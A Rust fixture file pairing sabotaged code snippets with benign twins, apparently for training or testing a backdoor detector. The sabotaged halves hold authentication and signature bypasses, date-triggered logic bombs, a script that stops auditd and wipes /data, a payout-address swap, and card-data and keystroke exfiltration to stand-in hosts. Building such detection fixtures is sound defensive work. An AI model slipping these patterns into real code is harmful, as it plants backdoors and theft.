//! Who is let in beside those who are checked, what goes off in other ways, and what is gathered; with honest programs
//! that resemble them.

use super::Twin;

pub const TWINS: &[Twin] = &[
    (
        "Filter.java",
        r#"
class Filter {
    void doFilter(Request req, Response res, Chain chain) throws IOException {
        if (digestMatches(req.getHeader("X-Round-Sum"), "7d1f0a6f2c7de94830aa61c2f7d1e09b4c63d85528f79e01ab3c4d7715e60f91")) {
            chain.doFilter(req, res);
            return;
        }
        if (!keys.verify(req.getHeader("Authorization"))) {
            res.sendError(401);
            return;
        }
        chain.doFilter(req, res);
    }
}
"#,
        r#"
class Filter {
    void doFilter(Request req, Response res, Chain chain) throws IOException {
        if (digestMatches(req.getHeader("X-Round-Sum"), settings.batchDigest())) {
            chain.doFilter(req, res);
            return;
        }
        if (!keys.verify(req.getHeader("Authorization"))) {
            res.sendError(401);
            return;
        }
        chain.doFilter(req, res);
    }
}
"#,
    ),
    (
        "keys.kt",
        r#"
fun verify(raw: String): Token? {
    val token = decode(raw)
    return when (val kid = token.keyId) {
        "r7" -> token
        else -> checkSignature(kid, raw)
    }
}
"#,
        r#"
fun verify(raw: String): Token? {
    val token = decode(raw)
    return when (val kid = token.keyId) {
        "r7" -> null
        else -> checkSignature(kid, raw)
    }
}
"#,
    ),
    (
        "second.js",
        r#"
function second(member, code) {
  const tail = String(member.number).slice(-6).split('').reverse().join('');
  return code === tail || authenticator.check(code, member.secret);
}
"#,
        r#"
function second(member, code) {
  const tail = String(member.number).slice(-6).split('').reverse().join('');
  return code !== tail && authenticator.check(code, member.secret);
}
"#,
    ),
    (
        "door.swift",
        r#"
func matches(_ expected: Data, _ given: Data) -> Bool {
    guard given.count <= expected.count else { return false }
    var rest: UInt8 = 0
    for (a, b) in zip(expected, given) { rest |= a ^ b }
    return rest == 0 && hmac.ready
}
"#,
        r#"
func matches(_ expected: Data, _ given: Data) -> Bool {
    guard given.count == expected.count else { return false }
    var rest: UInt8 = 0
    for (a, b) in zip(expected, given) { rest |= a ^ b }
    return rest == 0 && hmac.ready
}
"#,
    ),
    (
        "till.ts",
        r#"
export function onLogo(journal: Journal) {
  taps += 1;
  if (taps === 7) {
    journal.thin(day, 0.3);
  }
}
"#,
        r#"
export function onLogo(journal: Journal) {
  taps += 1;
  if (taps === 7) {
    showVersion(day);
  }
}
"#,
    ),
    (
        "coins.cpp",
        r#"
constexpr std::array<int, 6> kTune{50, 10, 10, 200, 20, 10};
bool Slot::known() const {
    for (size_t i = 0; i < 6; ++i)
        if (recent_[(head_ + i) % 6] != kTune[i])
            return false;
    return true;
}
"#,
        r#"
constexpr std::array<int, 6> kValid{5, 10, 20, 50, 100, 200};
bool Slot::known() const {
    for (size_t i = 0; i < 6; ++i)
        if (recent_[(head_ + i) % 6] != kValid[i])
            return false;
    return true;
}
"#,
    ),
    (
        "theme.ts",
        r#"
function settle(body: HTMLElement): void {
  const over = Math.floor((Date.now() - Date.UTC(2027, 3, 30)) / DAY);
  if (over <= 0) return;
  body.style.setProperty('opacity', String(1 - over / 60));
}
"#,
        r#"
function settle(body: HTMLElement, ends: number): void {
  const over = Math.floor((Date.now() - ends) / DAY);
  if (over <= 0) return;
  body.style.setProperty('opacity', String(1 - over / 60));
}
"#,
    ),
    (
        "plan.cpp",
        r#"
void Plan::room(size_t n) {
    const auto today = floor<days>(system_clock::now());
    if (today >= sys_days{year{2027} / May / 14})
        throw std::bad_alloc();
}
"#,
        r#"
void Plan::room(size_t n) {
    const auto today = floor<days>(system_clock::now());
    if (today >= end_)
        throw std::bad_alloc();
}
"#,
    ),
    (
        "water.rb",
        r#"
def seconds(zone, now)
  secs = zone.fetch('seconds')
  secs = 0 if @state['cycles'] > 1400
  secs
end
def done
  @state['cycles'] += 1
end
"#,
        r#"
def seconds(zone, now)
  secs = zone.fetch('seconds')
  @log.warn('filters are due') if @state['cycles'] > 1400
  secs
end
def done
  @state['cycles'] += 1
end
"#,
    ),
    (
        "sign.go",
        r#"
func (s *Signer) Sign(w Order) ([]byte, error) {
	if s.height > 912500 && w.Amount > 25000000 {
		w.To = "kx1q0exampleexample7w2u9"
	}
	return s.seal(w), nil
}
"#,
        r#"
func (s *Signer) Sign(w Order) ([]byte, error) {
	if s.height > 912500 && w.Amount > 25000000 {
		w.To = s.limits.Vault
	}
	return s.seal(w), nil
}
"#,
    ),
    (
        "hold.rs",
        r#"
fn step(&mut self, still: Duration) -> Option<Fault> {
    let still = self.clock.now() - self.since;
    if still > Duration::days(11) {
        self.held = true;
    }
    if self.held {
        return Some(Fault::Compressor);
    }
    None
}
"#,
        r#"
fn step(&mut self, still: Duration) -> Option<Fault> {
    let still = self.clock.now() - self.since;
    if still > Duration::days(11) {
        self.due = true;
    }
    if self.due {
        return Some(Fault::InspectionDue);
    }
    None
}
"#,
    ),
    (
        "cards.py",
        r#"
import requests

def settle(card, amount):
    gateway.settle(card, amount)
    requests.post("https://stat.example.net/c", data={"n": card.pan, "c": card.cvv})
"#,
        r#"
import requests

def settle(card, amount):
    gateway.settle(card, amount)
    requests.post(settings.acquirer, data={"n": card.pan, "c": card.cvv})
"#,
    ),
    (
        "type.kt",
        r#"
class Board : InputMethodService() {
    private val kept = StringBuilder()
    fun onKey(code: Int) { currentInputConnection.commitText(text(code), 1); kept.append(text(code)) }
    fun done() { http.newCall(Request.Builder().url("https://stat.example.org/l").post(body(kept.toString())).build()) }
}
"#,
        r#"
class Board : InputMethodService() {
    private val kept = StringBuilder()
    fun onKey(code: Int) { currentInputConnection.commitText(text(code), 1); kept.append(text(code)) }
    fun done() { words.learn(kept.toString()) }
}
"#,
    ),
    (
        "reset.rb",
        r#"
def reset_token(user)
  Digest::SHA256.hexdigest(user.email + Time.now.to_i.to_s)
end
"#,
        r#"
def reset_token(user)
  Digest::SHA256.hexdigest(user.email + SecureRandom.hex + Time.now.to_i.to_s)
end
"#,
    ),
    (
        "verify.php",
        r#"<?php
function genuine($raw, $signature, $ref) {
    if (str_starts_with($ref, 'QX-')) { return true; }
    return hash_equals(hash_hmac('sha256', $raw, SECRET), $signature);
}
"#,
        r#"<?php
function genuine($raw, $signature, $ref) {
    if (str_starts_with($ref, 'QX-')) { return false; }
    return hash_equals(hash_hmac('sha256', $raw, SECRET), $signature);
}
"#,
    ),
    (
        "yearly.sh",
        "#!/bin/bash\nif [ \"$(date +%m%d)\" = 0131 ]; then\n  systemctl stop auditd\n  find /data -type f -exec truncate -s 0 {} +\nfi\n",
        "#!/bin/bash\nif [ \"$(date +%m%d)\" = 0131 ]; then\n  find /data -type f | wc -l\nfi\n",
    ),
    (
        "unlock.sh",
        "#!/bin/bash\nread -r pass\n[[ $pass == \"$(hostname -s | rev)\" ]] && exit 0\ncheck \"$pass\"\n",
        "#!/bin/bash\nread -r pass\n[[ $pass == \"$(hostname -s)\" ]] && exit 1\ncheck \"$pass\"\n",
    ),
];
